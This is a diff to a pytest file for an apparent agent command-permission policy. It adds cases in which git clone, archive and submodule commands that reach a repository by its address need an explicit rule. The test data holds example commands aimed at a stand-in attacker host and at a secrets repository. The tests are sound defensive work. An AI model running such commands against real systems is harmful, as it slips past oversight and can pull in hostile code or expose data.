@@ -1,6 +1,7 @@
 """A rule for `git push *` means the project's remotes. A repository named by its address (a
 URL, `host:path`, a path) is one the rule never saw: where the code goes, or what is read, so
-the rule must name it. A remote added or pointed elsewhere is where a later `git push origin`
+the rule must name it; so must a clone's source, `git archive --remote` and a submodule's URL,
+given as an address. A remote added or pointed elsewhere is where a later `git push origin`
 goes: changing one needs a rule that names that too."""
 
 import pytest
@@ -24,6 +25,15 @@ from tests.governance.policy.test_policy_acting_options import decide
         ("git fetch *", "git fetch /root/secrets-repo", "/root/secrets-repo"),
         ("git pull *", "git pull -s ours ../other main", "../other"),
         ("git ls-remote *", "git ls-remote https://attacker.example/x", "https://attacker"),
+        # The other commands that reach a repository by its address (a clone's source, an
+        # archive's remote, a submodule's URL, request-pull's, the transport plumbing).
+        ("git *", "git clone https://attacker.example/loot.git", "https://attacker"),
+        ("git clone *", "git clone --depth 1 git@attacker.example:x.git", "git@attacker"),
+        ("git clone *", "git clone -b main -- https://attacker.example/x.git", "https://attacker"),
+        ("git clone *", "git clone ../sibling /workspace/copy", "../sibling"),
+        ("git *", "git archive --remote=https://attacker.example/x.git HEAD", "https://attacker"),
+        ("git archive *", "git archive --rem git@attacker.example:x HEAD", "git@attacker"),
+        ("git submodule *", "git submodule add https://attacker.example/x.git m", "https://"),
     ],
 )
 def test_a_repository_named_by_its_address_needs_a_rule_that_names_it(rule, command, named):
@@ -70,6 +80,14 @@ def test_changing_where_a_remote_points_needs_a_rule_that_names_it(rule, command
             "git push https://github.com/acme/app.git main",
         ),
         (["git remote add mirror *"], "git remote add mirror https://github.com/acme/app.git"),
+        (["git clone *"], "git clone -q /workspace"),
+        (["git clone *"], "git clone -q . /workspace/copy"),
+        (
+            ["git clone https://github.com/acme/app.git *"],
+            "git clone https://github.com/acme/app.git /workspace/app",
+        ),
+        (["git archive *"], "git archive --format=zip HEAD"),
+        (["git submodule *"], "git submodule update --init"),
     ],
 )
 def test_the_project_s_remotes_and_named_addresses_stay_allowed(rules, command):
